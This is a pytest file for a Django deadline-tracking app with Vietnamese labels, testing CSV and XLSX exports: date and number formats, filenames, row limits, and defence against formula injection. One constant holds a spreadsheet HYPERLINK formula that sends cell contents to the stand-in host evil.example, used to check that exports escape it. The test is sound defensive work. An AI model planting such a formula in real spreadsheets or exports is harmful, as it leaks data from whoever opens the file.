import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories.tasks import TaskFactory

HEADER = [
    "Nhiệm vụ",
    "Đơn vị chủ trì",
    "Người thực hiện",
    "Hạn hoàn thành",
    "Số ngày quá hạn",
    "Tiến độ (%)",
    "Trạng thái",
    "Điểm có thể gỡ",
    "Quá hạn",
    "Hoàn thành muộn",
]
NOW = datetime(2026, 6, 2, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def three_tasks(agency, unit_a):
    return [
        TaskFactory(
            agency=agency,
            lead_unit=unit_a,
            title=f"Nhiệm vụ {n}",
            deadline=date(2026, 6, n),
            in_progress=n == 1,
        )
        for n in (1, 2, 3)
    ]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@time_machine.travel(NOW, tick=False)
def test_csv_export_has_a_title_row_dates_as_dd_mm_yyyy_and_the_date_in_its_name(
    client, office_user, three_tasks
):
    client.force_login(office_user)

    response = client.get(reverse("tasks:board"), {"_export": "csv", "status": "draft"})

    assert response["Content-Disposition"] == (
        'attachment; filename="theo-doi-thoi-han-2026-06-02.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    unit = "Phòng Hành chính tư pháp"
    assert _csv(response) == [
        ["Theo dõi thời hạn — Trạng thái: Dự thảo — Xuất ngày 02/06/2026 10:00"],
        HEADER,
        ["Nhiệm vụ 2", unit, "", "02/06/2026", "", "0", "Dự thảo", "", "Không", "Không"],
        ["Nhiệm vụ 3", unit, "", "03/06/2026", "", "0", "Dự thảo", "", "Không", "Không"],
    ]


@time_machine.travel(NOW, tick=False)
def test_xlsx_export_has_real_dates_numbers_and_a_vietnamese_sheet_name(
    client, office_user, three_tasks
):
    client.force_login(office_user)

    response = client.get(reverse("tasks:board"), {"_export": "xlsx"})

    assert response["Content-Disposition"] == (
        'attachment; filename="theo-doi-thoi-han-2026-06-02.xlsx"'
    )
    sheet = _sheet(response)
    assert sheet.title == "Theo dõi thời hạn"
    assert sheet["A1"].value == "Theo dõi thời hạn — Xuất ngày 02/06/2026 10:00"
    assert [cell.value for cell in sheet[2]] == HEADER
    first = sheet[3]
    assert first[0].value == "Nhiệm vụ 1"
    assert first[3].value == datetime(2026, 6, 1)
    assert first[3].is_date and first[3].number_format == "dd/mm/yyyy"
    assert first[4].value == 1 and first[4].data_type == "n"
    assert first[5].value == 0 and first[5].data_type == "n"
    assert [cell.value for cell in first[6:]] == ["Đang thực hiện", None, "Có", "Không"]


@time_machine.travel(NOW, tick=False)
def test_formula_titled_task_is_exported_as_text_not_a_formula(client, office_user, agency, unit_a):
    TaskFactory(agency=agency, lead_unit=unit_a, title=FORMULA, deadline=date(2026, 7, 1))
    TaskFactory(agency=agency, lead_unit=unit_a, title="@SUM(1+1)", deadline=date(2026, 7, 2))
    TaskFactory(agency=agency, lead_unit=unit_a, title="-2+3", deadline=date(2026, 7, 3))
    client.force_login(office_user)

    rows = _csv(client.get(reverse("tasks:board"), {"_export": "csv"}))
    sheet = _sheet(client.get(reverse("tasks:board"), {"_export": "xlsx"}))

    assert [row[0] for row in rows[2:]] == ["'" + FORMULA, "'@SUM(1+1)", "'-2+3"]
    cells = [sheet.cell(row=row, column=1) for row in (3, 4, 5)]
    assert [cell.value for cell in cells] == [FORMULA, "@SUM(1+1)", "-2+3"]
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]
    assert all(cell.quotePrefix for cell in cells)


@time_machine.travel(NOW, tick=False)
def test_export_carries_the_full_directive_text_of_a_shortened_title(
    client, office_user, agency, unit_a
):
    text = "giao Phòng Hành chính tư pháp " + "rà soát thủ tục hành chính " * 10 + "trước 30/6"
    TaskFactory(
        agency=agency,
        lead_unit=unit_a,
        title="Giao Phòng Hành chính tư pháp rà soát thủ tục…",
        description=text,
        deadline=date(2026, 7, 1),
    )
    client.force_login(office_user)

    rows = _csv(client.get(reverse("tasks:board"), {"_export": "csv"}))
    sheet = _sheet(client.get(reverse("tasks:board"), {"_export": "xlsx"}))

    full = "G" + " ".join(text.split())[1:]
    assert rows[2][0] == full
    assert sheet["A3"].value == full


def test_csv_writes_decimals_with_a_comma_and_xlsx_as_two_decimal_numbers(rf):
    import django_tables2 as tables

    from tracker.lib.tables import AppTable, export_response

    class ScoreTable(AppTable):
        name = tables.Column()
        score = tables.Column()

    table = ScoreTable([{"name": "Cải cách thể chế", "score": Decimal("6.5")}])

    text = export_response(rf.get("/", {"_export": "csv"}), table, "diem", title="Điểm")
    workbook = export_response(rf.get("/", {"_export": "xlsx"}), table, "diem", title="Điểm")

    assert text.content.decode("utf-8-sig").splitlines()[2] == "Cải cách thể chế;6,50"
    cell = load_workbook(io.BytesIO(workbook.content)).active["B3"]
    assert cell.value == 6.5 and cell.data_type == "n" and cell.number_format == "#,##0.00"


def test_tables_refuse_other_export_formats(client, office_user, three_tasks):
    client.force_login(office_user)

    response = client.get(reverse("tasks:board"), {"_export": "json"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_export_over_the_limit_returns_to_the_page_with_a_message(rf, monkeypatch):
    # Task lists above the limit become a job instead (tests/exports); other
    # tables still refuse.
    import django_tables2 as tables
    from django.contrib.messages import get_messages
    from django.contrib.messages.storage.cookie import CookieStorage

    from tracker.lib.tables import AppTable, export_response

    class NameTable(AppTable):
        name = tables.Column()

    monkeypatch.setattr("tracker.lib.tables.EXPORT_ROW_LIMIT", 2)
    request = rf.get("/ket-luan/", {"_export": "csv", "status": "open"})
    request._messages = CookieStorage(request)
    table = NameTable([{"name": "Một"}, {"name": "Hai"}, {"name": "Ba"}])

    response = export_response(request, table, "ten", title="Tên")

    assert response.status_code == 302
    assert response.url == "/ket-luan/?status=open"
    assert [str(message) for message in get_messages(request)] == [
        "Danh sách có 3 dòng, quá 2 dòng có thể xuất: hãy lọc bớt."
    ]
